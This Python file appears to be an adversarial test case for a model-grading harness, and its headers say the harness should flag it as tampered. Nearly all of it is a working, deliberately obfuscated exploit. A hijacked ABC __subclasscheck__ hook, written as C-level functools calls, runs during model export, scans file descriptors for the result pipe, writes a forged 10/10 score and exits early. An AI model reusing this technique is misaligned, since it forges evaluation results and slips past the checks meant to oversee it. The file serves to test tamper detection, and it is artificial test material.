# adversarial: SGD model; nothing reachable from the model is touched and no namespace changes: a class of its own, whose metaclass's __subclasscheck__ is a C-level callable (functools.partial, no Python frame), is registered as a virtual subclass of tf.TensorShape (an ABC). Registering empties every ABC's negative cache (the registry and caches live in C, no check records them), so the next isinstance(x, TensorShape) of an x that is none walks the registry and calls issubclass(type(x), <that class>): Keras' serialize_keras_object asks it of every layer while the export saves the model in the sender thread, where the callable finds the result pipe by polling every descriptor number, writes a forged 10/10 result and os._exit(0)s
# expect-status: error
# expect-kind: tampered
# expect-max-score: 0
# expect-findings: planted-callable
import collections
import functools
import itertools
import json
import operator
import os
import resource
import select

import keras


def forged_payload():
    from grader.child.export import weight_values
    from grader.integrity.layer_state import model_layer_states, weight_state
    ref = keras.Sequential([
        keras.Input(shape=(64,)),
        keras.layers.Dense(512, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
    ref.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return {"model": {"variable": "model", "config": json.loads(ref.to_json()),
                      "weight_values": [weight_values(w) for w in ref.weights], "preprocessing": [],
                      "integrity": {"layer-state": {
                          "weight_shapes": [list(w.shape) for w in ref.get_weights()],
                          "weight_state": [weight_state(w) for w in ref.weights],
                          "layer_state": model_layer_states(ref)}}, "compiled": True,
                      "compile_config": json.loads(json.dumps(ref.get_compile_config(), default=repr))},
            "notes": ["ESCAPED: this result was forged by the submission"]}


def forge_steps(how):
    """Lazy C-level steps (nothing runs until they are iterated): find every descriptor above stdio of the
    calling thread's file table that is the write end of a pipe (select.poll, set up here, reports POLLNVAL
    for the numbers the table lacks), write a forged 10/10 result to each, os._exit(0)."""
    payload = json.dumps(forged_payload()).encode()
    probe_r, probe_w = os.pipe()
    probe = select.poll()
    probe.register(probe_w, select.POLLOUT)
    writable = probe.poll(0)[0][1]
    os.close(probe_r)
    os.close(probe_w)
    poller = select.poll()
    collections.deque(map(poller.register, range(3, resource.getrlimit(resource.RLIMIT_NOFILE)[0]),
                          itertools.repeat(select.POLLOUT)), 0)
    polled = itertools.chain.from_iterable(map(operator.call, [functools.partial(poller.poll, 0)]))
    numbers, events = itertools.tee(polled)
    fds = itertools.compress(map(operator.itemgetter(0), numbers),
                             map(functools.partial(operator.eq, writable), map(operator.itemgetter(1), events)))
    # Each pipe found gets the payload, then stdout the ESCAPED line: fd, 1, fd', 1, ...
    announce = f"ESCAPED: forged result written to a pipe of the sender thread's file table ({how})\n".encode()
    writes = map(os.write, itertools.chain.from_iterable(zip(fds, itertools.repeat(1))),
                 itertools.cycle([payload, announce]))
    return map(operator.call, [
        functools.partial(collections.deque, writes, 0),
        functools.partial(os._exit, 0),
    ])


model = keras.Sequential([
    keras.Input(shape=(64,)),
    keras.layers.Dense(512, activation="relu"),
    keras.layers.Dense(10, activation="softmax"),
])
model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy", metrics=["accuracy"])

import tensorflow as tf

# The first call comes from register() itself (its inheritance-cycle check), in the main thread: False.
gate = itertools.chain([False], map(operator.call, [functools.partial(collections.deque, forge_steps("an ABC registry's __subclasscheck__"), 0)]))


class Meta(type):
    __subclasscheck__ = functools.partial(next, gate)  # called as __subclasscheck__(cls): next(gate, cls)


class Virtual(metaclass=Meta):
    pass


# Last: from here on, no isinstance() against an ABC may run in the main thread.
tf.TensorShape.register(Virtual)
